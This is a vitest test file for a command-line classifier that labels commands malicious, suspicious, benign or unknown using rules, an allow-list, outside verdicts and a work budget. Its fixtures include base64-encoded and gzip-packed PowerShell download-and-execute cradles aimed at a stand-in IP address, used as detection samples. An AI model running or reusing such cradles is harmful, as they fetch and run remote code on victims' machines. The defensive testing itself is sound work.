import { gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { commandJudge, LONGEST_COMMAND_LINE, MOST_WORK_OF_CASE } from './command-judge.ts';
import { Work } from './command-line/index.ts';
import type { CommandVerdict } from './command-verdict.ts';

const OURS = 'C:\\shop\\sync.exe --now';
const ENCODED = `powershell.exe -nop -w hidden -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", 'utf16le').toString('base64')}`;

const PACKED = `powershell.exe -enc ${gzipSync('IEX (iwr http://203.0.113.9/a)').toString('base64')}`;

test.each<[string, string, CommandVerdict[], CommandVerdict]>([
  ['by the rules alone', ENCODED, [], 'malicious'],
  ['whom somebody called benign', ENCODED, ['benign'], 'malicious'],
  ['that nobody knows', 'C:\\shop\\other.exe --now', [], 'unknown'],
  ['that a model calls benign', 'C:\\shop\\other.exe --now', ['benign'], 'unknown'],
  ['that a model calls suspicious', 'C:\\shop\\other.exe --now', ['suspicious', 'benign'], 'suspicious'],
  ['of the known-good list', OURS, [], 'benign'],
  ['of the known-good list that was not known before', OURS, ['unknown'], 'benign'],
  ['of the known-good list that somebody accuses', OURS, ['malicious'], 'malicious'],
  ['of the known-good list that holds what is not opened', PACKED, [], 'unknown'],
  ['that is longer than any', OURS.padEnd(LONGEST_COMMAND_LINE + 1), [], 'unknown'],
])('a line %s', (_name, line, looks, verdict) => {
  expect(commandJudge([OURS, PACKED])(line, looks)).toBe(verdict);
});

test('lines that there is no work left for are unknown, and it is told', () => {
  const work = new Work(1_000);
  const judge = commandJudge([OURS], work);
  expect([judge(OURS, []), work.isShort]).toEqual(['benign', false]);
  expect(judge(ENCODED.padEnd(900), [])).toBe('malicious');
  expect([judge(OURS, []), work.isShort]).toEqual(['unknown', true]);
  expect(judge(OURS, ['suspicious'])).toBe('suspicious');
});

test('there is work for as many lines as a case brings', () => {
  const work = new Work(MOST_WORK_OF_CASE);
  const judge = commandJudge([], work);
  for (let at = 0; at < 300; at += 1) expect(judge(`${ENCODED} ${at}`, [])).toBe('malicious');
  expect(work.isShort).toBe(false);
  expect(work.done).toBeLessThan(MOST_WORK_OF_CASE / 10);
});
